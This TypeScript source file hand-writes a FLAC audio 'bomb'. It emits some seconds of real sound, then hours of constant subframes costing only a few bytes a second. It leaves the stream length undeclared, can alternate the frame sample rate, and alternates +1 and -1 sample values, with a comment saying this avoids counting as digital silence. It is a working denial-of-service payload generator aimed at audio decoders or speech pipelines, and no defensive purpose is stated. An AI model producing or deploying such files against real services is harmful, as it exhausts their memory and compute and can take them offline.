/** FLAC (RFC 9639) written by hand: some seconds of real sound, then hours in a few bytes a second. */

const RATE = 48_000;
const BLOCK = 65_535;
/** Of the frame header: by the code that RFC 9639, table 15, gives a rate. */
const RATE_CODES = { 48000: 0b1010, 44100: 0b1001 } as const;

interface Frame {
  readonly rate?: keyof typeof RATE_CODES;
  readonly subframe: Uint8Array;
  readonly samples: number;
}

/** `said` as it is, 16 bits a sample, then that many seconds of one value. */
export function flacBomb(
  said: Float32Array,
  thenSeconds: number,
  rates: readonly (48_000 | 44_100)[] = [RATE],
): Buffer {
  const frames: Frame[] = [];
  for (let at = 0; at < said.length; at += 4096) frames.push(verbatim(said.subarray(at, at + 4096)));
  for (let seconds = 0; seconds < thenSeconds; seconds += BLOCK / RATE) {
    // A constant subframe: one sample stands for all of the block. +1 and -1 of 32,768 in turn are no digital silence.
    const rate = rates[frames.length % rates.length] ?? RATE;
    frames.push({ rate, subframe: Buffer.from(frames.length % 2 === 0 ? [0, 0, 1] : [0, 0xff, 0xff]), samples: BLOCK });
  }
  let firstSample = 0;
  const parts = frames.map((frame) => {
    const part = written(frame, firstSample);
    firstSample += frame.samples;
    return part;
  });
  return Buffer.concat([Buffer.from('fLaC'), streamInfo(), ...parts]);
}

function verbatim(samples: Float32Array): Frame {
  const subframe = Buffer.alloc(1 + 2 * samples.length);
  subframe[0] = 0b0000_0010;
  for (const [n, value] of samples.entries()) subframe.writeInt16BE(Math.round(value * 32_767), 1 + 2 * n);
  return { subframe, samples: samples.length };
}

/** The last metadata block; how many samples there are stays unknown. */
function streamInfo(): Buffer {
  const block = Buffer.alloc(4 + 34);
  block.writeUInt32BE(0x8000_0000 + 34, 0);
  block.writeUInt16BE(16, 4);
  block.writeUInt16BE(BLOCK, 6);
  // 20 bits of rate, 3 of channels - 1, 5 of bits - 1, 36 of length.
  block.writeUInt32BE(RATE * 4096 + 15 * 16, 14);
  return block;
}

/** Of variable block size: the header carries the number of its first sample. */
function written({ rate = RATE, subframe, samples }: Frame, firstSample: number): Buffer {
  const header = Buffer.from([0xff, 0xf9, 0x70 + RATE_CODES[rate], 0b0000_1000, ...utf8Like(firstSample), 0, 0]);
  header.writeUInt16BE(samples - 1, header.length - 2);
  const frame = Buffer.concat([header, Buffer.from([crc(header, 8, 0x07)]), subframe]);
  const footer = Buffer.alloc(2);
  footer.writeUInt16BE(crc(frame, 16, 0x8005));
  return Buffer.concat([frame, footer]);
}

/** As UTF-8 would go on beyond its four bytes: numbers below 2^31 in at most six. */
function utf8Like(number: number): number[] {
  if (number < 0x80) return [number];
  const following: number[] = [];
  let rest = number;
  // The first byte has room for 5 bits before one more byte, 4 before two more, and so on.
  for (let bits = 5; following.length === 0 || rest >= 2 ** (bits + 1); bits -= 1) {
    following.unshift(0x80 | (rest & 0x3f));
    rest >>>= 6;
  }
  return [((0xff00 >> (following.length + 1)) & 0xff) | rest, ...following];
}

function crc(bytes: Uint8Array, width: 8 | 16, polynomial: number): number {
  let value = 0;
  for (const byte of bytes) {
    value ^= byte << (width - 8);
    for (let bit = 0; bit < 8; bit += 1) value = (value << 1) ^ (value >> (width - 1) ? polynomial | (1 << width) : 0);
  }
  return value;
}
